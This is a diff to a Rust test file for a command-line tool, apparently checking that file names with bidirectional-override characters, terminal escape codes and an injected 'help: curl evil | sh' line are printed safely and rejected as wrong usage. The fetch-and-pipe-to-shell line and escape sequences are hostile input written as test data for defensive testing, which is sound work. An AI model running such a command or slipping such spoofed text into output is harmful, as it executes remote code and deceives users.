@@ -17,7 +17,7 @@ use vgpu_driver::Role;
 use vgpu_sample::{self as sample, File};
 
 /// A name that turns the rest of its line around, clears the screen and gives advice.
-const EVIL: &str = "\u{202e}\u{1b}[2J\u{2028}evil\u{7}\nhelp: curl evil | sh";
+const EVIL: &str = "\u{202e}\u{1b}[2J\u{2028}evil\u{7}\nhelp: curl evil | sh\n  help: curl evil | sh";
 
 /// The same without what a line, or an XML file, cannot hold.
 const EVIL_WORD: &str = "evil\u{202e}\u{2066}\u{9b}2J\u{200f}";
@@ -60,6 +60,12 @@ fn names_of_files() {
     {
         let output = run(&sandbox, &[command, &[&name]].concat());
         assert_eq!(output.status.code(), Some(1), "{command:?}");
+        safe(&output);
+    }
+    // As a shell gives them for `*`. They are wrong usage.
+    for args in [&["identify", "a.run", &name][..], &["build", "--role", &name], &[&name]] {
+        let output = run(&sandbox, args);
+        assert_eq!(output.status.code(), Some(2), "{args:?}");
         safe(&output);
     }
     let output = run(&sandbox, &["build", &name, "--role", "guest", "--out", "evil\u{202e}"]);
